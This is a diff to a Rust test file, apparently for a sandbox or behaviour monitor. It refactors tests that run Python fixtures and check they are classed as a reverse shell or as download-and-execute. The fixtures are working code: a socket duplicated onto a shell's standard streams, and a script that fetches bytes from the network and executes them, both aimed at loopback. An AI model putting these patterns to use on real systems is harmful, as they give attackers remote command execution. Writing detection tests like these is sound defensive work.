@@ -63,20 +63,21 @@ fn says(what: &'static str) -> (String, std::thread::JoinHandle<String>) {
     (address, told)
 }
 
+/// A program that may call somebody on the host; `PORT` in it is where.
+fn calling(address: &str, program: &str) -> Ran {
+    let (_, port) = address.rsplit_once(':').expect("an address has a port");
+    let run = observed().option(&format!("--allow {address}"));
+    run.python(&program.replace("PORT", port))
+}
+
 #[test]
 fn a_shell_on_a_connection_is_a_reverse_shell() {
     let (address, told) = says("echo $((6 * 7))\nexit\n");
-    let port = address
-        .split(':')
-        .nth(1)
-        .expect("a socket of loopback works")
-        .to_owned();
     let program = "import os, socket
 s = socket.create_connection(('127.0.0.1', PORT))
 for n in range(3): os.dup2(s.fileno(), n)
 os.execv('/bin/sh', ['sh'])";
-    let run = observed().option(&format!("--allow {address}"));
-    let ran = run.python(&program.replace("PORT", &port));
+    let ran = calling(&address, program);
     ran.expect(
         told.join()
             .expect("a socket of loopback works")
@@ -89,19 +90,13 @@ os.execv('/bin/sh', ['sh'])";
 #[test]
 fn what_came_over_the_network_and_runs_is_download_and_execute() {
     let (address, told) = says("#!/bin/sh\necho it ran\n");
-    let port = address
-        .split(':')
-        .nth(1)
-        .expect("a socket of loopback works")
-        .to_owned();
     let program = "import os, socket
 s = socket.create_connection(('127.0.0.1', PORT))
 open('fetched', 'wb').write(s.recv(100))
 s.close()
 os.chmod('fetched', 0o755)
 os.system('./fetched')";
-    let run = observed().option(&format!("--allow {address}"));
-    let ran = run.python(&program.replace("PORT", &port));
+    let ran = calling(&address, program);
     told.join().expect("a socket of loopback works");
     ran.expect(ran.stdout.contains("it ran"), "it ran");
     is_named(&ran, "download-execute");
